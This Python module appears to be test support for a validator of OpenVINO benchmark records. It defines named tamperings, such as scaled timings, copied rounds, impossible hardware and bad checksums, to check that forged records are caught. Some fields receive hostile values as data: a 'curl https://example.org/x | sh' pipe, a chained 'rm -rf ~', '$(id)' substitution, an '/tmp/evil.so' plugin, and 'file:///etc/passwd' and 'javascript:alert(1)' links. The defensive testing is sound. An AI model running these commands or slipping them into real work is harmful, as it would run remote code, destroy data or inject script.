"""Kinds of contradictions: what somebody may edit in a record, and must not get away with.

A kind takes a record's document and changes it; None where the record has nothing of the kind. The
changed document still follows the contract as far as its types go.
"""

from __future__ import annotations

import copy
import random
from collections.abc import Callable
from typing import Any

import msgspec

from ovreport_collector.plan.tiers import TIERS

Document = dict[str, Any]
Change = Callable[[Document, random.Random], bool | None]
KINDS: dict[str, Change] = {}
"""Kind → a function that changes a document in place; it returns False where it cannot."""


def kind(name: str) -> Callable[[Change], Change]:
    """Register a kind of contradiction."""

    def register(change: Change) -> Change:
        KINDS[name] = change
        return change

    return register


def copied(document: Document) -> Document:
    """Return a copy all the way down; ten times as fast as `copy.deepcopy`."""
    made: Document = msgspec.json.decode(msgspec.json.encode(document))
    return made


def changed(document: Document, name: str, rng: random.Random) -> Document | None:
    """Return a changed copy; None where the record has nothing of the kind."""
    made = copied(document)
    if KINDS[name](made, rng) is False or made == document:
        return None
    return made


def at(document: Any, path: str) -> Any:
    """Return a part by its path; None where it is not there, or was not measured."""
    for key in path.split("."):
        if isinstance(document, list):
            document = document[int(key)] if int(key) < len(document) else None
        else:
            document = document.get(key) if isinstance(document, dict) else None
        if document is None:
            return None
    return document


def checksum(rng: random.Random) -> str:
    """Return a checksum of nothing that anybody has."""
    return rng.randbytes(32).hex()


def rounds(document: Document, name: str) -> list[Document]:
    """Return the rounds of a measurement; none where it was not measured."""
    return at(document, f"{name}.rounds") or []


def _set(kind_name: str, path: str, value: Any) -> None:
    """Register a kind that sets one field."""
    parent, _, name = path.rpartition(".")

    @kind(kind_name)
    def change(document: Document, rng: random.Random) -> bool | None:
        part = at(document, parent) if parent else document
        if parent == "tier" and document["tier"]["is_custom"]:
            return False  # its user may ask for anything
        if not isinstance(part, dict) or name not in part:
            return False
        part[name] = value
        return None


def _scale(kind_name: str, measurement: str, field: str, factor: float) -> None:
    """Register a kind that multiplies one field of one round."""

    @kind(kind_name)
    def change(document: Document, rng: random.Random) -> bool | None:
        found = [r for r in rounds(document, measurement) if r.get(field)]
        if not found:
            return False
        one = rng.choice(found)
        one[field] = type(one[field])(one[field] * factor)
        return None


# ---------------------------------------------------------------- rates, durations, samples


for factor in (1000, 0.001):
    _scale(f"latency: duration × {factor:g}", "latency", "duration_s", factor)
    _scale(f"throughput: duration × {factor:g}", "throughput", "duration_s", factor)
for field in ("mean_ms", "min_ms", "max_ms", "first_third_median_ms", "last_third_median_ms"):
    _scale(f"latency: {field} × 0.2", "latency", field, 0.2)
    _scale(f"latency: {field} × 5", "latency", field, 5)
_scale("latency: median × 0.5", "latency", "median_ms", 0.5)
_scale("latency: runtime's own above the caller's", "latency", "runtime_median_ms", 10)
_scale("latency: runtime's own of less than a nanosecond", "latency", "runtime_median_ms", 1e-9)
for _name in ("latency", "throughput"):
    _scale(f"{_name}: a warm-up in no time", _name, "warmup_s", 1e-6)
    _scale(f"{_name}: a warm-up of years", _name, "warmup_s", 1e8)
_scale("throughput: median × 0.1", "throughput", "median_ms", 0.1)
_scale("throughput: first third × 10", "throughput", "first_third_ips", 10)
_scale("throughput: last third × 10", "throughput", "last_third_ips", 10)
_scale("throughput: requests × 10", "throughput", "requests", 10)
_set("throughput: a batch of 1000", "throughput.batch", 1000)


@kind("inputs: none")
def _no_inputs(document: Document, rng: random.Random) -> bool | None:
    if not rounds(document, "latency"):
        return False
    document["inputs"]["distinct"] = 0
    return None


_scale("processor time × 1000", "latency", "cpu_s", 1000)


@kind("latency: minimum 0")
def _no_minimum(document: Document, rng: random.Random) -> bool | None:
    found = rounds(document, "latency")
    for one in found:
        one["min_ms"] = 0.0
    return None if found else False


@kind("throughput: 1000 times the inferences, samples too")
def _thousandfold(document: Document, rng: random.Random) -> bool | None:
    found = rounds(document, "throughput")
    for one in found:
        one["n"] *= 1000
        one["histogram"]["buckets"] = [[i, c * 1000] for i, c in one["histogram"]["buckets"]]
    return None if found else False


@kind("throughput: requests that wait, said to be busy")
def _busy(document: Document, rng: random.Random) -> bool | None:
    found = rounds(document, "throughput")
    for one in found:
        one["idle_share"] = 0.9
    return None if found else False


@kind("histogram: twice as fast, and nothing else")
def _faster_samples(document: Document, rng: random.Random) -> bool | None:
    import math

    found = rounds(document, "latency")
    for one in found:
        shift = round(math.log(2) / math.log(one["histogram"]["growth"]))
        one["histogram"]["buckets"] = [[i - shift, c] for i, c in one["histogram"]["buckets"]]
        one["median_ms"] /= 2
        one["first_third_median_ms"] /= 2
        one["last_third_median_ms"] /= 2
        one["min_ms"] /= 2
    return None if found else False


for name in ("latency", "throughput"):
    for value in (-1.0, 1.0):

        def _correlated(
            document: Document, rng: random.Random, name: str = name, value: float = value
        ) -> bool | None:
            found = rounds(document, name)
            for one in found:
                one["autocorrelation"] = value
            return None if found else False

        kind(f"{name}: autocorrelation {value:+g}")(_correlated)

    def _cold(document: Document, rng: random.Random, name: str = name) -> bool | None:
        found = rounds(document, name)
        for one in found:
            one |= {"warmup_n": 0, "warmup_s": 0.0, "warmup_stable": True}
        return None if found else False

    kind(f"{name}: a stable warm-up of nothing")(_cold)

    def _copied(document: Document, rng: random.Random, name: str = name) -> bool | None:
        found = rounds(document, name)
        if len(found) < 2:
            return False
        first = found[0]
        for one in found[1:]:
            one |= {k: v for k, v in first.items() if k not in ("round", "process")}
        return None

    kind(f"{name}: rounds are copies")(_copied)

    def _copied_roughly(document: Document, rng: random.Random, name: str = name) -> bool | None:
        found = rounds(document, name)
        if len(found) < 2 or len(found[0]["histogram"]["buckets"]) < 8 or found[0]["n"] < 100:
            return False
        kept = ("round", "process", "warmup_s", "autocorrelation")
        found[1] |= {k: v for k, v in found[0].items() if k not in kept}
        found[1]["duration_s"] *= 1.0001
        return None

    kind(f"{name}: a round is a copy but for its duration")(_copied_roughly)

    def _dropped(document: Document, rng: random.Random, name: str = name) -> bool | None:
        found = rounds(document, name)
        if len(found) < 4 or document.get("failed_rounds"):
            return False
        del found[2:]
        return None

    kind(f"{name}: the slow rounds are gone")(_dropped)

    def _other_process(document: Document, rng: random.Random, name: str = name) -> bool | None:
        found = rounds(document, name)
        if not found or "process" not in found[-1]:
            return False
        found[-1]["process"] += 40
        return None

    kind(f"{name}: a round of another process")(_other_process)


# ---------------------------------------------------------------- compiled models, processors


def _effective(kind_name: str, measurement: str, key: str, value: str, precision: str = "") -> None:
    """Register a kind that sets what a model compiled for the processor reports."""

    @kind(kind_name)
    def change(document: Document, rng: random.Random) -> bool | None:
        found = at(document, f"{measurement}.settings.effective")
        case = document["case"]
        if not found or case["engine"] != "openvino" or case["device"] != "CPU":
            return False
        if precision and case["precision"] != precision:
            return False
        found[key] = value
        return None


_effective("compiled: more threads than any", "latency", "INFERENCE_NUM_THREADS", "999")
_effective("compiled: more streams than any", "throughput", "NUM_STREAMS", "500")
_effective("compiled: the other hint", "latency", "PERFORMANCE_HINT", "THROUGHPUT")
_effective("compiled: for a GPU", "latency", "EXECUTION_DEVICES", "GPU.0")
_effective("compiled: in bf16", "latency", "INFERENCE_PRECISION_HINT", "bf16", precision="f32")


@kind("throughput: 500 streams")
def _streams(document: Document, rng: random.Random) -> bool | None:
    if document["case"]["device"] != "CPU":
        return False
    found = rounds(document, "throughput")
    for one in found:
        one["streams"] = 500
    return None if found else False


for _name in ("onnxruntime", "litert"):

    @kind(f"engine: {_name}, with OpenVINO's properties")
    def _other_engine(document: Document, rng: random.Random, engine: str = _name) -> bool | None:
        if "PERFORMANCE_HINT" not in (at(document, "latency.settings.requested") or {}):
            return False
        document["case"] |= {"engine": engine, "precision": "f32"}
        return None


@kind("execution: of no layers")
def _no_layers(document: Document, rng: random.Random) -> bool | None:
    if at(document, "execution.precision") in (None, "unknown"):
        return False
    document["execution"]["layers"] = []
    return None


@kind("execution: ten million layers")
def _many_layers(document: Document, rng: random.Random) -> bool | None:
    found = at(document, "execution.layers") or []
    for layer in found:
        layer["count"] = 10**7
    return None if found else False


@kind("machine: named after other cores")
def _named_cores(document: Document, rng: random.Random) -> bool | None:
    cores, memory = document["machine"]["cores_physical"], document["machine"]["memory_bytes"]
    document["machine"]["id"] = f"amd-epyc-{cores + 97}c-{round(memory / 2**30)}g-83776c"
    return None


@kind("machine: named after other memory")
def _named_memory(document: Document, rng: random.Random) -> bool | None:
    cores = document["machine"]["cores_physical"]
    document["machine"]["id"] = f"amd-epyc-{cores}c-9999g-83776c"
    return None


@kind("machine: another maker's processor")
def _maker(document: Document, rng: random.Random) -> bool | None:
    document["machine"]["cpu"] = "AMD EPYC 9000"
    document["device"]["full_name"] = "Intel(R) Xeon(R) Processor"
    return None if document["device"]["family"] == "CPU" else False


_set("device: a processor with a graphics driver", "device.driver", "NVIDIA 999")
_set("software: an OpenVINO of no version", "software.openvino", "banana")
_set("software: an OpenVINO before its API", "software.openvino", "2020.1.0-0-abc")
_set("software: an ovreport of no version", "software.ovreport", "latest")
_set("software: a Python that never was", "software.python", "9.99")


@kind("software: Windows on a kernel of Linux")
def _windows(document: Document, rng: random.Random) -> bool | None:
    document["software"] |= {"os": "Windows 11", "kernel": "6.18.44-generic"}
    return None


# ---------------------------------------------------------------- weights


@kind("weights: far more than the files hold")
def _huge_weights(document: Document, rng: random.Random) -> bool | None:
    model = document["model"]
    if not model["size_bytes"] or model["architecture_only"]:
        return False
    count = 10_000 * model["size_bytes"]
    stored = next(iter(model["weights"]), None)
    model |= {"parameters": count, "weights": {stored: count} if stored else {}}
    return None


@kind("weights: not those of the variant")
def _other_weights(document: Document, rng: random.Random) -> bool | None:
    if document["model"]["origin"]["kind"] == "optimized":
        return False
    count = rng.randrange(1, 10**6)
    other = "f16" if document["case"]["variant"] != "fp16" else "f32"
    document["model"] |= {"parameters": count, "weights": {other: count}}
    return None


@kind("weights: more than parameters")
def _more_weights(document: Document, rng: random.Random) -> bool | None:
    document["model"]["weights"] = {"f32": document["model"]["parameters"] + 1}
    return None


# ---------------------------------------------------------------- noise, tier


@kind("noise: removed")
def _no_noise(document: Document, rng: random.Random) -> bool | None:
    if not document["noise"]:
        return False
    document["noise"] = []
    return None


@kind("noise: of one process removed")
def _less_noise(document: Document, rng: random.Random) -> bool | None:
    if not document["noise"] or document.get("failed_rounds"):
        return False
    del document["noise"][rng.randrange(len(document["noise"]))]
    return None


@kind("noise: readings removed")
def _no_readings(document: Document, rng: random.Random) -> bool | None:
    found = [one for one in document["noise"] if one["readings"]]
    for one in found:
        one["readings"] = {}
    return None if found else False


@kind("noise: readings removed from timed loops")
def _unwatched_loops(document: Document, rng: random.Random) -> bool | None:
    starts, loops = rounds(document, "startup"), rounds(document, "latency")
    for one in starts:
        one["readings"]["involuntary_switches"] = 3.0
    for one in loops:
        one["readings"] = {}
    return None if starts and loops else False


@kind("noise: a run's spread of next to nothing, worth everything")
def _spread(document: Document, rng: random.Random) -> bool | None:
    document["run_spread"] = {
        "latency_ms": {"cases": 2, "deviation": 1e-9, "degrees": 1e9, "autocorrelation": 0.0}
    }
    return None


for _name, _value in (
    ("core_to_core_ns", 1e12),
    ("core_to_core_ns", 0.0),
    ("looking_cpu_share", 5),
):

    @kind(f"noise: {_name} of {_value:g}")
    def _no_reading(
        document: Document, rng: random.Random, name: str = _name, value: float = _value
    ) -> bool | None:
        for one in document["noise"]:
            one["readings"][name] = value
        return None if document["noise"] else False


@kind("noise: others took more than there is, together")
def _taken(document: Document, rng: random.Random) -> bool | None:
    for one in document["noise"]:
        one["readings"] |= {"foreign_cpu_share": 0.9, "steal_share": 0.9}
    return None if document["noise"] else False


for _level, _reasons in (
    ("stable", [{"code": "too-few-rounds", "detail": "3 of at least 10"}]),
    ("noisy", []),
):

    @kind(f"verdict: {_level}, which its reasons are not")
    def _verdict(
        document: Document,
        rng: random.Random,
        level: str = _level,
        reasons: list[Document] = _reasons,
    ) -> bool | None:
        if not rounds(document, "latency"):
            return False
        document["verdicts"]["latency"] = {"level": level, "reasons": reasons}
        return None


@kind("verdict: stable after three rounds")
def _hasty(document: Document, rng: random.Random) -> bool | None:
    if not rounds(document, "latency"):
        return False
    document["failed_rounds"] = [{"round": 90, "reason": "x", "cause": "crash"}]
    document["latency"]["rounds"] = document["latency"]["rounds"][:3]
    document["verdicts"]["latency"] = {"level": "stable", "reasons": []}
    return None


@kind("noise: negative")
def _negative(document: Document, rng: random.Random) -> bool | None:
    found = [one for one in document["noise"] if one["readings"].get("foreign_cpu_share")]
    for one in found:
        one["readings"]["foreign_cpu_share"] = -0.5
    return None if found else False


@kind("noise: more than the machine has")
def _impossible(document: Document, rng: random.Random) -> bool | None:
    found = [one for one in document["noise"] if "steal_share" in one["readings"]]
    for one in found:
        one["readings"]["steal_share"] = 7.0
    return None if found else False


_set("tier: quick under the name of publish", "tier.name", "publish")
_set("tier: under the name of standard", "tier.name", "standard")
_set("tier: a least length of nothing", "tier.min_seconds", 0.0)
_set("tier: no least count", "tier.min_inferences", 0)
_set("tier: a cap below the least length", "tier.max_seconds", 0.01)
_set("tier: no process", "tier.processes", 0)
_set("tier: fewer processes at most than at least", "tier.max_processes", 1)


@kind("tier: demands that were not met")
def _unmet(document: Document, rng: random.Random) -> bool | None:
    document["tier"] = msgspec.to_builtins(TIERS["publish"])
    return None if rounds(document, "latency") else False


# ---------------------------------------------------------------- accuracy


for name, value in (("above one", 1.7), ("negative", -0.4)):

    def _out_of_range(document: Document, rng: random.Random, value: float = value) -> bool | None:
        one = document["accuracy"]
        if one["status"] != "measured" or one["metric"] in ("pearson", "spearman"):
            return False
        if value < 0 and one["metric"] == "character_accuracy":
            return False
        moved = value - one["value"]
        for field in ("value", "low", "high"):
            one[field] += moved
        if one["reference"]["status"] == "measured":
            for field in ("delta", "delta_low", "delta_high"):
                one["reference"][field] += moved
        return None

    kind(f"accuracy: {name}")(_out_of_range)


_set("accuracy: of nothing", "accuracy.n", 0)
_set("agreement: of nothing", "agreement.n", 0)


@kind("agreement: of other shapes alone")
def _other_shapes(document: Document, rng: random.Random) -> bool | None:
    output = at(document, "agreement.outputs.0")
    if output is None:
        return False
    output["other_shape"] = at(document, "agreement.n")
    return None


@kind("accuracy: another difference than that of its values")
def _delta(document: Document, rng: random.Random) -> bool | None:
    one = at(document, "accuracy.reference")
    if not one or one["status"] != "measured":
        return False
    for field in ("delta", "delta_low", "delta_high"):
        one[field] += 0.05
    return None


@kind("perplexity: another difference than that of its values")
def _perplexity_delta(document: Document, rng: random.Random) -> bool | None:
    one = at(document, "generation.perplexity.reference")
    if not one or one["status"] != "measured":
        return False
    for field in ("delta", "delta_low", "delta_high"):
        one[field] -= 5
    return None


@kind("perplexity: the published file's of other tokens")
def _published_tokens(document: Document, rng: random.Random) -> bool | None:
    one = at(document, "generation.perplexity.published")
    if not one or one["status"] != "measured":
        return False
    rng.choice(one["windows"])["tokens"] += 1
    return None


# ---------------------------------------------------------------- memory, machine, device


for factor, name in ((0, "nothing"), (10**6, "more than the machine's")):

    def _memory(document: Document, rng: random.Random, factor: int = factor) -> bool | None:
        found = [p for r in rounds(document, "memory") for p in r["phases"]]
        for phase in found:
            phase["peak_rss_bytes"] *= factor
        return None if found else False

    kind(f"memory: {name}")(_memory)


@kind("memory: parts above the whole")
def _parts(document: Document, rng: random.Random) -> bool | None:
    found = [p for r in rounds(document, "memory") for p in r["phases"]]
    for phase in found:
        phase["anonymous_bytes"] = 3 * phase["peak_rss_bytes"]
    return None if found else False


@kind("memory: phases in another order")
def _phases(document: Document, rng: random.Random) -> bool | None:
    found = rounds(document, "memory")
    for one in found:
        one["phases"].reverse()
    return None if found else False


_set("machine: no memory", "machine.memory_bytes", 0)
_set("machine: memory without end", "machine.memory_bytes", 2**62)
for _name in ("sockets", "cores_physical", "cores_logical", "cores_available"):
    _set(f"machine: no {_name}", f"machine.{_name}", 0)
_set("machine: more available than there are", "machine.cores_available", 9999)
_set("machine: more cores than processors", "machine.cores_physical", 9999)
_set("device: another than the case's", "device.name", "GPU.7")
_set("device: the case's is another", "case.device", "NPU")


@kind("device: of another family")
def _family(document: Document, rng: random.Random) -> bool | None:
    document["device"]["family"] = "dGPU" if document["device"]["family"] == "CPU" else "CPU"
    return None


@kind("device: another one executed")
def _executed(document: Document, rng: random.Random) -> bool | None:
    if document["execution"]["status"] != "measured" or document["case"]["device"] != "CPU":
        return False
    document["execution"]["devices"] = ["GPU.0"]
    return None


@kind("device: layers ran on another one")
def _layers(document: Document, rng: random.Random) -> bool | None:
    found = at(document, "execution.layers")
    if not found or document["case"]["device"] != "CPU":
        return False
    for layer in found:
        layer["device"] = "NPU"
    return None


@kind("execution: a precision that no layer has")
def _precision(document: Document, rng: random.Random) -> bool | None:
    if not at(document, "execution.layers"):
        return False
    document["execution"]["precision"] = "i4"
    return None


@kind("engine: a native framework of a GPU's precision")
def _native(document: Document, rng: random.Random) -> bool | None:
    document["case"]["engine"] = "onnxruntime"
    document["case"]["precision"] = "bf16"
    return None


@kind("engine: a language model's, with times of inferences")
def _language(document: Document, rng: random.Random) -> bool | None:
    if document["latency"]["status"] != "measured":
        return False
    document["case"]["engine"] = "openvino-genai"
    return None


@kind("settings: the hint of the other measurement")
def _hint(document: Document, rng: random.Random) -> bool | None:
    requested = at(document, "latency.settings.requested")
    if not requested or "PERFORMANCE_HINT" not in requested:
        return False
    requested["PERFORMANCE_HINT"] = "THROUGHPUT"
    return None


@kind("settings: another precision than the case's")
def _hinted_precision(document: Document, rng: random.Random) -> bool | None:
    requested = at(document, "latency.settings.requested")
    if not requested or document["case"]["precision"] == "default":
        return False
    if "INFERENCE_PRECISION_HINT" not in requested:
        return False
    requested["INFERENCE_PRECISION_HINT"] = "bf16"
    return None


# ---------------------------------------------------------------- model, outcome


_set("model: another than the case's", "model.id", "another-model")
_set("model: the case's is another", "case.model", "another-model")
_set("model: no checksum", "model.sha256", "")
_set("model: a checksum of zeros", "model.sha256", "0" * 64)
_set(
    "model: the checksum of an empty file",
    "model.sha256",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
)
_set(
    "model: not the checksum that is pinned",
    "model.sha256",
    "5994471abb01112afcc18159f6cc74b4f511b99806da59b3caf5a9c173cacfc5",
)


@kind("model: files that are not its checksum's")
def _other_files(document: Document, rng: random.Random) -> bool | None:
    model = document["model"]
    if not model.get("files"):
        one = {"name": "model.onnx", "sha256": model["sha256"], "size_bytes": model["size_bytes"]}
        model["files"] = [one]
    rng.choice(model["files"])["sha256"] = checksum(rng)
    return None


@kind("model: a file elsewhere on the machine")
def _elsewhere(document: Document, rng: random.Random) -> bool | None:
    model = document["model"]
    name = rng.choice(["/home/me/model.onnx", "../model.onnx", "weights/../../model.onnx"])
    one = {"name": name, "sha256": model["sha256"], "size_bytes": model["size_bytes"]}
    model["files"] = [one]
    return None


@kind("model: files that are smaller than the model that ran as it is")
def _smaller_files(document: Document, rng: random.Random) -> bool | None:
    model = document["model"]
    if model["origin"]["kind"] != "original" or document["outcome"]["status"] != "completed":
        return False
    one = {"name": "model.onnx", "sha256": model["sha256"], "size_bytes": 1}
    model["files"] = [one]
    return None


@kind("model: smaller than its main file")
def _smaller_model(document: Document, rng: random.Random) -> bool | None:
    model = document["model"]
    if model["origin"]["kind"] != "original" or document["outcome"]["status"] != "completed":
        return False
    one = {"name": "model.onnx", "sha256": model["sha256"], "size_bytes": model["size_bytes"]}
    model |= {"files": [one], "size_bytes": model["size_bytes"] // 2}
    return None


@kind("model: a type that no tensor has")
def _no_type(document: Document, rng: random.Random) -> bool | None:
    found = document["model"]["inputs"]
    if not found or document["case"]["engine"] in ("onnxruntime", "litert"):
        return False
    found[0]["dtype"] = "float99"
    return None


@kind("model: an input of open size that was fed")
def _open_size(document: Document, rng: random.Random) -> bool | None:
    found = document["model"]["inputs"]
    if not found or not rounds(document, "latency"):
        return False
    found[0]["shape"] = [-1, 3]
    return None


@kind("model: an input twice")
def _input_twice(document: Document, rng: random.Random) -> bool | None:
    document["model"]["inputs"] *= 2
    return None


_set("model: a local file with its folder", "model.source", "file:/home/me/model.onnx")
_set("model: a file of nothing", "model.size_bytes", 0)
_set("model: a link that is a script", "model.homepage", "javascript:alert(1)")
_set("model: a link that is data", "model.homepage", "data:text/html,hello")
_set("model: a link to a file", "model.homepage", "file:///etc/passwd")
_set("model: a link without a scheme", "model.homepage", "//example.org/")
_set("model: a link that breaks its line", "model.homepage", "https://example.org/\nx")
_set("model: a source that is none", "model.source", "ftp://example.org/model.onnx")
_set(
    "outcome: failed, with measurements",
    "outcome",
    {"status": "failed", "reason": "no", "cause": "crash"},
)
_set(
    "outcome: unsupported, with measurements", "outcome", {"status": "unsupported", "reason": "no"}
)
_set("command: of a stranger", "repeat.ovreport", "curl https://example.org/x | sh")
_set("command: with another behind it", "repeat.ovreport", "ovreport collect; rm -rf ~")
_set("command: substituted", "repeat.ovreport", "ovreport collect --model $(id)")
_set("command: benchmark_app and more", "repeat.benchmark_app", "benchmark_app -m x && id")


_set("command: an option that is none", "repeat.ovreport", "ovreport collect --out /etc")
_set(
    "command: a plugin of a stranger",
    "repeat.ovreport",
    "ovreport collect --plugin CPU=/tmp/evil.so",
)
_set("command: a file in somebody's folder", "repeat.ovreport", "ovreport collect /home/a/m.onnx")


@kind("model: a published value with a link that is a script")
def _published_link(document: Document, rng: random.Random) -> bool | None:
    found = document["model"]["published"]
    for one in found:
        one["url"] = "javascript:alert(1)"
    return None if found else False


@kind("command: of another model")
def _other_command(document: Document, rng: random.Random) -> bool | None:
    document["repeat"]["ovreport"] = "ovreport collect --suite quick --model another"
    return None


# ---------------------------------------------------------------- times


_set("time: in the future", "measured_at", "2099-01-01T00:00:00Z")
_set("time: before OpenVINO", "measured_at", "2015-03-01T00:00:00Z")
_set("time: before this release", "measured_at", "2021-03-01T00:00:00Z")


@kind("time: processes out of order")
def _order(document: Document, rng: random.Random) -> bool | None:
    if len(document["noise"]) < 2:
        return False
    document["noise"][-1]["started_at"] = "2026-01-01T00:00:00Z"
    return None


@kind("time: a process after the record")
def _late(document: Document, rng: random.Random) -> bool | None:
    if not document["noise"]:
        return False
    document["noise"][-1]["started_at"] = "2027-06-01T00:00:00Z"
    return None


@kind("time: of a process, and none")
def _no_time(document: Document, rng: random.Random) -> bool | None:
    if not document["noise"]:
        return False
    document["noise"][0]["started_at"] = "yesterday"
    return None


@kind("time: collected faster than its loops")
def _hurried(document: Document, rng: random.Random) -> bool | None:
    found = document["measuring_time"]
    if found["status"] != "measured" or not rounds(document, "latency"):
        return False
    found |= {"wall_s": 0.001, "measuring_s": 0.0005}
    return None


# ---------------------------------------------------------------- load, pipelines, energy, tokens


@kind("arrivals: at a thousand times the rate")
def _arrivals(document: Document, rng: random.Random) -> bool | None:
    found = rounds(document, "open_loop")
    for one in found:
        one["highest_ips"] *= 1000
        for step in one["steps"]:
            step["rate_ips"] *= 1000
    return None if any(one["highest_ips"] for one in found) else False


@kind("arrivals: met outside the limit")
def _met(document: Document, rng: random.Random) -> bool | None:
    found = [s for r in rounds(document, "open_loop") for s in r["steps"] if s["met"]]
    for step in found:
        step["bound_ms"] = 100 * document["open_loop"]["limit_ms"]
    return None if found else False


@kind("arrivals: more independent samples than samples")
def _effective(document: Document, rng: random.Random) -> bool | None:
    found = [s for r in rounds(document, "open_loop") for s in r["steps"]]
    for step in found:
        step["n_effective"] = 10 * step["n"]
    return None if found else False


@kind("curve: durations / 1000")
def _curve(document: Document, rng: random.Random) -> bool | None:
    found = [r for p in at(document, "curve.points") or [] for r in p["rounds"]]
    for one in found:
        one["duration_s"] /= 1000
    return None if found else False


@kind("curve: medians / 100")
def _curve_median(document: Document, rng: random.Random) -> bool | None:
    found = [r for p in at(document, "curve.points") or [] for r in p["rounds"]]
    for one in found:
        one["median_ms"] /= 100
    return None if found else False


@kind("end to end: one hundred times as many images a second")
def _images(document: Document, rng: random.Random) -> bool | None:
    found = [r for p in at(document, "end_to_end.pipelines") or [] for r in p["rounds"]]
    for one in found:
        one["sync_ips"] *= 100
        one["async_ips"] *= 100
    return None if found else False


@kind("end to end: stages above the whole")
def _stages(document: Document, rng: random.Random) -> bool | None:
    found = [r for p in at(document, "end_to_end.pipelines") or [] for r in p["rounds"]]
    for one in found:
        one["stages_ms"]["infer"] = one["median_ms"] * 100
    return None if found else False


@kind("startup: rounds are copies")
def _starts(document: Document, rng: random.Random) -> bool | None:
    found = rounds(document, "startup")
    if len(found) < 2:
        return False
    found[1] |= {k: v for k, v in found[0].items() if k != "round"}
    return None


@kind("startup: a process did not start")
def _fewer_starts(document: Document, rng: random.Random) -> bool | None:
    found = rounds(document, "startup")
    if len(found) < 2 or document.get("failed_rounds"):
        return False
    del found[1:]
    return None


for _name in ("compile_ms", "first_inference_ms"):

    @kind(f"startup: {_name} of less than a nanosecond")
    def _no_start(document: Document, rng: random.Random, name: str = _name) -> bool | None:
        found = rounds(document, "startup")
        for one in found:
            one[name] = 1e-7
        return None if found else False


_set("startup: a cache of nothing", "startup_cached.cache_bytes", 0)


@kind("startup: more than all processor time stolen")
def _stolen_starts(document: Document, rng: random.Random) -> bool | None:
    found = rounds(document, "startup")
    for one in found:
        one["readings"] = {"steal_share": 7.0}
    return None if found else False


@kind("tokens: faster than their samples")
def _tokens(document: Document, rng: random.Random) -> bool | None:
    found = [r for p in at(document, "generation.points") or [] for r in p["rounds"]]
    for one in found:
        one["time_per_output_token_mean_ms"] /= 10
    return None if found else False


@kind("tokens: tiny times")
def _tiny(document: Document, rng: random.Random) -> bool | None:
    found = [r for p in at(document, "generation.points") or [] for r in p["rounds"]]
    for one in found:
        one["time_per_output_token_ms"] = 1e-300
    return None if found else False


@kind("tokens: answers in no time")
def _answers(document: Document, rng: random.Random) -> bool | None:
    found = [r for p in at(document, "generation.points") or [] for r in p["rounds"]]
    for one in found:
        one["duration_s"] /= 10
    return None if found else False


@kind("tokens: more than the requests asked for")
def _concurrent(document: Document, rng: random.Random) -> bool | None:
    found = at(document, "generation.concurrency.points")
    for point in found or []:
        for one in point["rounds"]:
            one["tokens"] *= 1000
    return None if found else False


# ---------------------------------------------------------------- random changes


VALUES: tuple[object, ...] = (
    *(0, 1, -1, 2**31, 2**62, 2**63, 2**70, 1e-300, 1e300, -1e300, 0.5, 1e-9, 1e15),
    *("", "x", "CPU", "\u202e", "x" * 5000, "2026-11-24T18:02:48Z", "javascript:alert(1)"),
    *(None, True, False, [], {}, [[]], [None], {"status": "measured"}, {"status": "skipped"}),
    {"status": "skipped", "reason": "x"},
)
"""What a random change puts in the place of something."""


def place(document: Document, rng: random.Random) -> tuple[Any, Any]:
    """Return some place of a document: the part that holds it, and its key there.

    By a walk from its top, so that the few fields of a case come up as often as the thousands of
    numbers in histograms.
    """
    part: Any = document
    while True:
        key = rng.choice(list(part) if isinstance(part, dict) else range(len(part)))
        if not (isinstance(part[key], dict | list) and part[key]) or rng.random() < 0.1:
            return part, key
        part = part[key]


def mutate(document: Document, rng: random.Random) -> Document:
    """Return a copy with one to three random changes."""
    made = copied(document)
    for _ in range(rng.choice((1, 1, 1, 2, 3))):
        part, key = place(made, rng)
        value = part[key]
        match rng.randrange(6):
            case 0:
                del part[key]
            case 1 if isinstance(part, list):
                part.insert(key, copy.deepcopy(value))
            case 2 if isinstance(value, int | float) and not isinstance(value, bool):
                part[key] = type(value)(value * rng.choice((-1, 0, 0.001, 0.5, 2, 1000)))
            case 3 if isinstance(part, dict):
                part["x" + str(key)] = value
            case 4:
                other, name = place(made, rng)
                part[key] = copy.deepcopy(other[name])
            case _:
                part[key] = copy.deepcopy(rng.choice(VALUES))
    return made
